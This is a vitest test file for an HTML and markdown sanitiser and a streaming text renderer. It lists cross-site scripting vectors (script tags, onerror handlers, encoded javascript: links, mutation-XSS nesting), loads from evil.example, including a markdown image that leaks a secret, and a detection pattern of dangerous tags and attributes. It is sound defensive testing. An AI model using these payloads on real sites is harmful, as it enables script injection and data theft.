import { describe, expect, test } from "vitest";
import { GrowingText } from "./growing";
import { sanitise } from "./sanitise";

const VECTORS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='jAvAsCrIpT&#58;alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' \u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<form action='https://evil.example'><input name=p><button>x</button></form>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<div style='background:url(https://evil.example/x)'>x</div>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<video src='https://evil.example/x' poster='https://evil.example/y' autoplay></video>",
  "<audio src='https://evil.example/x'></audio><track src='https://evil.example/t'>",
  "<picture><source srcset='https://evil.example/x'><img src='https://evil.example/y'></picture>",
  "<img srcset='https://evil.example/x 2x' alt=a>",
  "<input type=image src='https://evil.example/x'>",
  "<body background='https://evil.example/x'>",
  "<table background='https://evil.example/x'><td background='https://evil.example/y'>",
  "<div id=main name=page class=masthead onclick=alert(1)>x</div>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "![x](https://evil.example/?secret)",
  "![x](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "[x](#/prompts)",
  "`<img src=x onerror=alert(1)>`",
];

/** What could run, load or take over something, wherever it stands. */
function dangersIn(root: ParentNode): string[] {
  return Array.from(root.querySelectorAll("*")).flatMap((element) => [
    ...(/^(?:script|style|iframe|object|embed|form|input|button|link|meta|base|img|video|audio|source|picture|svg|math|template)$/i.test(
      element.tagName,
    )
      ? [element.tagName]
      : []),
    ...Array.from(element.attributes).flatMap(({ name, value }) =>
      /^on|^style$|^id$|^name$|^src|^background$|^poster$|^action$/.test(name) ||
      (name === "href" && !/^(?:https?:|mailto:)/.test(value))
        ? [`${name}=${value}`]
        : [],
    ),
  ]);
}

describe.each(VECTORS)("%s", (vector) => {
  test("is harmless as a whole", () => {
    const root = document.createElement("div");
    root.append(sanitise(vector));
    new GrowingText(root.appendChild(document.createElement("div"))).show(vector);

    expect(dangersIn(root)).toEqual([]);
  });

  test("is harmless at every cut of a stream", () => {
    for (let cut = 1; cut < vector.length; cut += 1) {
      const root = document.createElement("div");
      const text = new GrowingText(root);
      text.show(vector.slice(0, cut));
      expect(dangersIn(root)).toEqual([]);
      text.show(vector);
      expect(dangersIn(root)).toEqual([]);
    }
  });
});

test("an image is a link to it, which loads nothing", () => {
  const root = document.createElement("div");
  root.append(sanitise("<p>See <img src='https://example.org/a.png' alt='a proof'></p>"));

  expect(root.querySelector("a")?.outerHTML).toBe(
    '<a class="image-place" href="https://example.org/a.png" target="_blank" rel="noopener noreferrer nofollow">Image: a proof</a>',
  );
});

test("links open elsewhere and tell nothing", () => {
  const link = sanitise("<a href='https://example.org' target=_self rel=opener>x</a>").querySelector("a");

  expect([link?.target, link?.rel]).toEqual(["_blank", "noopener noreferrer nofollow"]);
});
